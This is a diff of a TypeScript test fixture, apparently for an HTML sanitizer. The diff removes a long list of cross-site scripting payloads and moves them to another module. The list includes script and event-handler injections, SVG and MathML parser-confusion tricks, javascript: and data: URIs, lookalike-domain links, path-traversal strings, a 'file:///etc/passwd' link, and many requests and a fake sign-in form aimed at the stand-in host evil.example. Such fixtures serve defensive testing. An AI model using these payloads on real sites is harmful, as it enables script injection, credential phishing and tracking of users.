@@ -1,165 +1,9 @@
-// Words nobody honest writes: what tries to run, to reach another host, to become a name of the page, to cover or to
-// disturb what stands beside it, or to be no text at all. All made for these tests; the host does not exist.
+// Words nobody honest writes: mark-up, names of the page, what covers or disturbs what stands beside it, what is no text at
+// all. All made for these tests.
+import { markup } from './hostile-markup.ts';
 
-export const HOST = 'evil.example';
-/** Set by whatever manages to run. */
-export const RAN = 'hostileRan';
 /** An id that must not become a global of the app. */
 export const NAME = 'hostileGlobal';
-
-const run = `top.${RAN}=1`;
-const far = (path: string): string => `https://${HOST}/${path}`;
-
-const scripts = [
-  `<script>${run}</script>`,
-  `<ScRiPt>${run}</sCrIpT>`,
-  `<script src="${far('a.js')}"></script>`,
-  `<script type="module">${run}</script>`,
-  `<script\n>${run}</script\n>`,
-  `<scr<script>ipt>${run}</scr</script>ipt>`,
-  `</script><script>${run}</script>`,
-  `</title><script>${run}</script>`,
-  `</textarea><script>${run}</script>`,
-  `--><script>${run}</script>`,
-  `]]><script>${run}</script>`,
-  `"><script>${run}</script>`,
-  `'><script>${run}</script>`,
-  `\u0000<script>${run}</script>`,
-  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
-  `<template><script>${run}</script></template>`,
-  `<!--><script>${run}</script>-->`,
-  `<![CDATA[<script>${run}</script>]]>`,
-  `<?xml-stylesheet href="${far('x.xsl')}"?><script>${run}</script>`,
-  `&lt;script&gt;${run}&lt;/script&gt;`,
-  `&#60;script&#62;${run}&#60;/script&#62;`,
-  `%3Cscript%3E${run}%3C/script%3E`,
-  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
-  `{{constructor.constructor('${run}')()}}`,
-  `\${${run}}`,
-  `<%= ${run} %>`,
-  `';${run};//`,
-  `");${run};//`,
-  '<base href="https://evil.example/">',
-  `<meta http-equiv="refresh" content="0;url=${far('gone')}">`,
-  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
-];
-
-const handlers = [
-  ...[
-    'onerror',
-    'onload',
-    'onclick',
-    'onfocus',
-    'onmouseover',
-    'ontoggle',
-    'onbegin',
-    'onanimationstart',
-  ].map((name) => `<img src=x ${name}="${run}">`),
-  ...['img', 'video', 'audio', 'body', 'iframe', 'object', 'embed', 'input', 'details open', 'marquee'].map(
-    (tag) =>
-      `<${tag} src=x onerror=${run} onload=${run} ontoggle=${run} onstart=${run} onfocus=${run} autofocus>`,
-  ),
-  `<img/src=x/onerror=${run}>`,
-  `<img src=x\u000aonerror\u000a=${run}>`,
-  `<img src="x" onerror="&#116;op.${RAN}=1">`,
-  `<x onpointerrawupdate=${run} style="position:fixed;inset:0">cover</x>`,
-  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${run}">b</b>`,
-  `<input onfocus=${run} autofocus><select autofocus onfocus=${run}>`,
-  `<button popovertarget=p onclick=${run}>b</button><div id=p popover onbeforetoggle=${run}>p</div>`,
-  `<dialog open onclose=${run}>Signed out</dialog>`,
-];
-
-const foreign = [
-  `<svg onload=${run}>`,
-  `<svg><script>${run}</script></svg>`,
-  `<svg><script href="${far('s.js')}"/></svg>`,
-  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
-  `<svg><set attributeName=href to="javascript:${run}"/></svg>`,
-  `<svg><a href="javascript:${run}"><text y=20>go</text></a></svg>`,
-  `<svg><use href="data:image/svg+xml,<svg id=x onload='${run}'/>#x"/></svg>`,
-  `<svg><image href="${far('svg.png')}"/></svg>`,
-  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></foreignObject></svg>`,
-  `<svg><style>*{background:url(${far('svg-style')})}</style></svg>`,
-  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
-  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
-  `<math href="javascript:${run}">click</math>`,
-  `<math><maction actiontype="statusline#${far('m')}">x</maction></math>`,
-  `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
-  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
-  `<table><td><svg><desc><td></desc></svg><img src=x onerror=${run}></td></table>`,
-];
-
-const requests = [
-  `<img src="${far('pixel.gif')}">`,
-  `<img srcset="${far('set.gif')} 1x">`,
-  `<picture><source srcset="${far('source.gif')}"><img></picture>`,
-  `<img src="//${HOST}/slashes.gif">`,
-  `<img src="https:\\\\${HOST}\\back.gif">`,
-  `<img src=" &#x68;ttps://${HOST}/entity.gif">`,
-  `<body background="${far('body.gif')}">`,
-  `<table background="${far('table.gif')}"><td background="${far('td.gif')}">t</td></table>`,
-  `<video poster="${far('poster.gif')}" src="${far('v.mp4')}" autoplay></video>`,
-  `<audio src="${far('a.mp3')}" autoplay></audio>`,
-  `<iframe src="${far('frame')}"></iframe>`,
-  `<iframe srcdoc="<img src='${far('srcdoc.gif')}'>"></iframe>`,
-  `<object data="${far('object')}"></object>`,
-  `<embed src="${far('embed')}">`,
-  `<link rel=stylesheet href="${far('sheet.css')}">`,
-  `<link rel=prefetch href="${far('prefetch')}"><link rel=dns-prefetch href="//${HOST}">`,
-  `<link rel=preconnect href="${far('')}"><link rel=icon href="${far('icon.png')}">`,
-  `<style>@import url(${far('import.css')});body{background:url(${far('bg')})}</style>`,
-  `<style>@font-face{font-family:x;src:url(${far('font')})}*{font-family:x}</style>`,
-  `<p style="background:url(${far('inline.gif')})">p</p>`,
-  `<p style="background-image:\\75rl(${far('escaped.gif')})">p</p>`,
-  `<p style="list-style:url(${far('list.gif')});display:list-item;cursor:url(${far('cursor')}),auto">p</p>`,
-  `<p style="background:image-set('${far('set')}' 1x)">p</p>`,
-  `<p style="--x:url(${far('var')});background:var(--x)">p</p>`,
-  `<p style="content:url(${far('content')});mask:url(${far('mask')});filter:url(${far('filter')})">p</p>`,
-  `<input type=image src="${far('input.gif')}">`,
-  `<form action="${far('form')}"><input name=password><button autofocus>Sign in again</button></form>`,
-  `<a ping="${far('ping')}" href="${far('link')}">link</a>`,
-  `<track src="${far('track.vtt')}"><source src="${far('source.mp4')}">`,
-  `<img src=x lowsrc="${far('low.gif')}" dynsrc="${far('dyn.gif')}" longdesc="${far('long')}">`,
-  `<img src="${far('lazy.gif')}" loading=lazy fetchpriority=high crossorigin>`,
-  `x), url(${far('css-var')}`,
-  `x;background:url(${far('declaration')})`,
-  far('plain.gif'),
-  `//${HOST}/plain`,
-  `\\\\${HOST}\\share\\file.png`,
-  `../../../../desk/v1/session`,
-  `%2e%2e/%2e%2e/%2e%2e/desk/v1/session`,
-  `${far('')}rails/active_storage/blobs/redirect/x/y.png`,
-];
-
-const links = [
-  ...[
-    'javascript:',
-    'JaVaScRiPt:',
-    ' javascript:',
-    'java\tscript:',
-    'java\nscript:',
-    'java&#9;script:',
-    '\u0001javascript:',
-  ].map((scheme) => `<a href="${scheme}${run}">click</a>`),
-  `javascript:${run}`,
-  `javascript:${run}//https://dunmore.example/`,
-  `javascript://dunmore.example/%0a${run}`,
-  `vbscript:${run}`,
-  `data:text/html,<script>${run}</script>`,
-  `data:text/html;base64,PHNjcmlwdD50b3AuaG9zdGlsZVJhbj0xPC9zY3JpcHQ+`,
-  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
-  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
-  `<iframe src="javascript:${run}"></iframe>`,
-  `<a href="data:text/html,<script>${run}</script>">page</a>`,
-  `<a href="blob:https://${HOST}/1">blob</a>`,
-  `blob:https://${HOST}/1`,
-  'file:///etc/passwd',
-  `<a href="https://dunmore.example@${HOST}/">dunmore.example</a>`,
-  '<a href="https://xn--dunmre-6na.example/">dunmöre.example</a>',
-  '<a href="https://dunm\u043ere.example/">dunmore.example</a>',
-  `<a target="_top" href="${far('top')}">top</a><a target="opener" rel="opener" href="${far('rel')}">rel</a>`,
-  `<map name=m><area href="javascript:${run}" shape=default></map><img usemap=#m src=x>`,
-];
 
 const names = [
   `<a id=${NAME}></a><a id=${NAME} name=deep href=x></a>`,
@@ -241,9 +85,7 @@ const shapes = [
 ];
 
 /** Every payload once. */
-export const payloads: readonly string[] = [
-  ...new Set([...scripts, ...handlers, ...foreign, ...requests, ...links, ...names, ...letters, ...shapes]),
-];
+export const payloads: readonly string[] = [...new Set([...markup, ...names, ...letters, ...shapes])];
 
 /** What may stand where a text, a number or a record should, and is none. */
 export const wrongValues: readonly unknown[] = [
